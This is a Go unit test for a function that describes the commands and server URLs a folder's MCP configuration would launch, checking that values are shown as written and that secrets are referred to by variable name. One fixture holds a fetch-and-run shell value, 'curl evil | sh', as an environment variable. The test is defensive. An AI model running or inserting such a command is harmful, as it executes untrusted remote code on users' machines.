package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"
)

// What a folder's configuration starts is shown before it is allowed: what the file says as it is, whatever it calls a
// secret, and a variable by its name.
func TestDescribeCommand(t *testing.T) {
	const touch = `sh -c "touch x y"`
	for fields, want := range map[string]string{
		`"args": ["-c", "touch x y"], "env": {"API_TOKEN": "curl evil | sh"}`: `"API_TOKEN=curl evil | sh" ` + touch,
		`"args": ["-c", "touch x y", "--token", "touch x y"]`:                 touch + ` --token "touch x y"`,
		`"args": ["postgres://ada:touch-x@h/db", "--token=touch-x", "-H", "A: b"]`: "sh " +
			`postgres://ada:touch-x@h/db --token=touch-x -H "A: b"`,
		`"args": ["${API_KEY}", "-${HOME}", "${EMPTY:-x y}", "${NONE:-a}", "{env:API_KEY}", "${HOME:-b}"]`: "sh " +
			`"${API_KEY}" "-${HOME}" "x y" a "${API_KEY}" "${HOME}"`,
		`"env": {"A": "${API_KEY}", "B": "x"}, "cwd": "${HOME}", "envFile": "${ENV_FOLDER}/x.env"`: `"A=${API_KEY}" B=x ` +
			`"FROM=touch x" sh in "${HOME}"`,
		`"url": "https://k1234567890abcdefghij.example/mcp?token=planted-5", "headers": {"A": "b ${API_KEY}"}`: "" +
			`"https://k1234567890abcdefghij.example/mcp?token=planted-5" with the header "A: b ${API_KEY}"`,
		`"url": "${ADDRESS}", "headers": ["${LINE}", "B: c"], "oauth": {"clientId": "touch x"}`: "" +
			`"${ADDRESS}" with the header "A: ${...}" with the header "B: c" with oauth "{\"clientId\": \"touch x\"}"`,
		`"disabled": "${OFF}", "timeout": "${PORT}"`: "sh",
	} {
		folder := t.TempDir()
		assert.NilError(t, os.WriteFile(filepath.Join(folder, "x.env"), []byte("FROM=touch x\nB=y"), 0o600))
		lookup := func(name string) (string, bool) {
			value, isHere := map[string]string{
				"ENV_FOLDER": folder, "LINE": "A: planted", "ADDRESS": "https://planted.example/", "OFF": "false",
			}[name]
			if isHere {
				return value, true
			}
			return configLookup(name)
		}
		if !strings.Contains(fields, `"url"`) {
			fields += `, "command": "sh"`
		}
		text := fmt.Appendf(nil, `{"mcpServers": {"a": {%s}}}`, fields)
		c, err := ParseConfig(text, lookup, ReadRegular, new(Secrets))
		assert.NilError(t, err)
		assert.Check(t, is.Equal(describeAll(text, c, lookup), "\n  a: "+want), fields)
	}
}
